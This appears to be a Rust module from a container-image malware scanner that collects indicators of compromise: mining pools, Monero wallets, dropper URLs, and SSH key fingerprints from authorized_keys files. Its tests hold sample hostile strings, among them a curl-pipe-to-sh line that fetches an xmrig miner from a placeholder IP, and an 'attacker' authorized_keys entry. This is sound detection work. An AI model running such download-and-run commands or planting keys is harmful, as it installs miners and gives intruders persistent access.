//! Indicators of compromise: the values a blocklist or a threat-intel tool
//! takes from a scan — mining pools (host and port), Monero wallets (only
//! checksum-valid ones), the URLs and hosts droppers, cron lines, units and
//! install scripts fetch from, and the fingerprints of SSH keys baked into
//! `authorized_keys` — each with every place it was seen.
//!
//! Rules give theirs from the matched bytes ([`extract`], run by
//! [`crate::RuleScanner`] while the bytes are at hand); findings from their
//! evidence; keys from the captured `authorized_keys` files.

use crate::check::CheckContext;
use crate::malware::Malware;
use imgscan_sbom::Finding;
use regex::bytes::Regex;
use serde::Serialize;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::sync::LazyLock;

/// Most indicators one rule match gives.
const MAX_PER_MATCH: usize = 16;

/// What an indicator is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum IocKind {
    /// A mining pool, `host` or `host:port`.
    Pool,
    /// A Monero wallet address with a valid checksum.
    Wallet,
    /// A URL code is fetched from.
    Url,
    /// The host of such a URL.
    Host,
    /// An SSH public key's fingerprint (`SHA256:…`, as `ssh-keygen -l`).
    SshKey,
}

impl IocKind {
    /// The report's name of the kind.
    pub fn as_str(self) -> &'static str {
        match self {
            IocKind::Pool => "pool",
            IocKind::Wallet => "wallet",
            IocKind::Url => "url",
            IocKind::Host => "host",
            IocKind::SshKey => "ssh-key",
        }
    }
}

/// One place an indicator was seen.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct IocPlace {
    /// Absolute, escaped path (with `!` steps inside archives).
    pub path: String,
    /// The layer of that file.
    pub layer: usize,
    /// 1-based line, when known.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub line: Option<u32>,
}

/// An indicator with every place it was seen.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Ioc {
    /// What it is.
    #[serde(rename = "type")]
    pub kind: IocKind,
    /// The value, as a blocklist takes it.
    pub value: String,
    /// Where it was seen, sorted.
    #[serde(rename = "where")]
    pub places: Vec<IocPlace>,
}

static POOL_TOKEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9.-]*$").expect("valid regex"));
static STRATUM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)stratum2?\+(?:tcp|ssl|tls)://([A-Za-z0-9.-]+(?::[0-9]{1,5})?)")
        .expect("valid regex")
});
static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"https?://[A-Za-z0-9.-]+(?::[0-9]{1,5})?(?:/[^\s'"`|;&<>)(\\]*)?"#)
        .expect("valid regex")
});

/// The indicators in `data`, which rule `rule` matched at `spans` (byte
/// ranges of its matches).
pub(crate) fn extract(
    rule: &str,
    data: &[u8],
    spans: &[std::ops::Range<usize>],
) -> Vec<(IocKind, String)> {
    let mut out = Vec::new();
    match rule {
        crate::malware::POOL_RULE => {
            for span in spans {
                let left = POOL_TOKEN
                    .find(&data[span.start.saturating_sub(128)..span.start])
                    .map_or(0, |m| m.len());
                let rest = &data[span.end..];
                let right = rest
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
                    .count();
                let mut end = span.end + right;
                if let Some(port) = data[end..].strip_prefix(b":") {
                    let digits = port.iter().take_while(|b| b.is_ascii_digit()).count();
                    if (2..=5).contains(&digits) {
                        end += 1 + digits;
                    }
                }
                let host = String::from_utf8_lossy(&data[span.start - left..end])
                    .trim_start_matches(['.', '-'])
                    .to_ascii_lowercase();
                out.push((IocKind::Pool, host));
            }
        }
        "stratum_protocol" | "xmrig_config" | "cpu_gpu_miner" | "xmrig_miner" => {
            for found in STRATUM.captures_iter(data).take(MAX_PER_MATCH) {
                let host = String::from_utf8_lossy(&found[1]).to_ascii_lowercase();
                out.push((IocKind::Pool, host));
            }
        }
        "miner_dropper_script" => {
            for found in URL.find_iter(data).take(MAX_PER_MATCH) {
                urls(&String::from_utf8_lossy(found.as_bytes()), &mut out);
            }
        }
        _ => {}
    }
    out.truncate(MAX_PER_MATCH);
    out
}

/// `url` and its host.
fn urls(url: &str, out: &mut Vec<(IocKind, String)>) {
    let url = url.trim_end_matches(['.', ',']);
    let host = url
        .split_once("://")
        .map(|(_, rest)| rest.split(['/', ':']).next().unwrap_or(rest))
        .unwrap_or_default()
        .to_ascii_lowercase();
    out.push((IocKind::Url, url.to_string()));
    if !host.is_empty() {
        out.push((IocKind::Host, host));
    }
}

/// Findings whose evidence is a command that fetches code.
const FETCHING_FINDINGS: &[&str] = &[
    "cron.download-and-run",
    "systemd.download-and-run",
    "startup.download-and-run",
    "npm.install-script",
];

/// Every indicator of a scan: from the rules' matches, the findings'
/// evidence and the `authorized_keys` files findings name.
pub fn collect(ctx: &CheckContext<'_>, malware: &[Malware], findings: &[Finding]) -> Vec<Ioc> {
    let mut all: BTreeMap<(IocKind, String), Vec<IocPlace>> = BTreeMap::new();
    let mut add = |kind, value: String, place: IocPlace| {
        all.entry((kind, value)).or_default().push(place);
    };
    for entry in malware {
        for (kind, value) in &entry.iocs {
            let place = IocPlace {
                path: entry.path.clone(),
                layer: entry.layer,
                line: None,
            };
            add(*kind, value.clone(), place);
        }
    }
    for finding in findings {
        let place = || IocPlace {
            path: finding.path.clone(),
            layer: finding.layer,
            line: finding.line,
        };
        if FETCHING_FINDINGS.contains(&finding.id) {
            let mut found = Vec::new();
            for url in URL.find_iter(finding.evidence.as_bytes()) {
                urls(&String::from_utf8_lossy(url.as_bytes()), &mut found);
            }
            for (kind, value) in found {
                add(kind, value, place());
            }
        }
        if finding.id == "ssh.authorized-keys" {
            let path = finding.path.trim_start_matches('/').as_bytes();
            let Some(text) = ctx.text(path) else { continue };
            for (index, line) in text.lines().enumerate() {
                if let Some(fingerprint) = key_fingerprint(line) {
                    let place = IocPlace {
                        line: Some(index as u32 + 1),
                        ..place()
                    };
                    add(IocKind::SshKey, fingerprint, place);
                }
            }
        }
    }
    all.into_iter()
        .map(|((kind, value), mut places)| {
            places.sort();
            places.dedup();
            Ioc {
                kind,
                value,
                places,
            }
        })
        .collect()
}

/// The `SHA256:…` fingerprint of an `authorized_keys` line (options before
/// the key type are allowed), as `ssh-keygen -l` prints it.
pub fn key_fingerprint(line: &str) -> Option<String> {
    use base64::Engine;
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    let words: Vec<&str> = line.split_whitespace().collect();
    let at = words
        .iter()
        .position(|w| w.starts_with("ssh-") || w.starts_with("ecdsa-") || w.starts_with("sk-"))?;
    let blob = base64::engine::general_purpose::STANDARD
        .decode(words.get(at + 1)?)
        .ok()?;
    let digest = Sha256::digest(&blob);
    Some(format!(
        "SHA256:{}",
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(digest)
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_hosts_with_ports_and_stratum_urls() {
        let data = b"{\"url\": \"pool.supportxmr.com:443\", \"x\": 1}";
        let at = data
            .windows(14)
            .position(|w| w == b"supportxmr.com")
            .unwrap();
        assert_eq!(
            extract(
                crate::malware::POOL_RULE,
                data,
                std::slice::from_ref(&(at..at + 14))
            ),
            [(IocKind::Pool, "pool.supportxmr.com:443".to_string())]
        );
        assert_eq!(
            extract(
                "stratum_protocol",
                b"-o stratum+tcp://Pool.Example.net:3333 -u x",
                &[]
            ),
            [(IocKind::Pool, "pool.example.net:3333".to_string())]
        );
        assert_eq!(
            extract(
                "miner_dropper_script",
                b"curl -fsSL http://203.0.113.5/xmrig.tar.gz|sh",
                &[]
            ),
            [
                (IocKind::Url, "http://203.0.113.5/xmrig.tar.gz".to_string()),
                (IocKind::Host, "203.0.113.5".to_string())
            ]
        );
    }

    #[test]
    fn ssh_key_fingerprints_match_ssh_keygen() {
        // As ssh-keygen computes it: SHA-256 of the blob, base64 unpadded
        // (the e2e test compares with `ssh-keygen -l` on a generated key).
        let blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20abcdefghijklmnopqrstuvwxyz012345";
        use base64::Engine;
        let line = format!(
            "no-pty ssh-ed25519 {} attacker@203.0.113.9",
            base64::engine::general_purpose::STANDARD.encode(blob)
        );
        let expected = format!(
            "SHA256:{}",
            base64::engine::general_purpose::STANDARD_NO_PAD.encode(Sha256::digest(blob))
        );
        assert_eq!(key_fingerprint(&line), Some(expected));
        assert_eq!(key_fingerprint("# ssh-rsa AAAA"), None);
        assert_eq!(key_fingerprint("ssh-rsa !!notbase64"), None);
    }
}
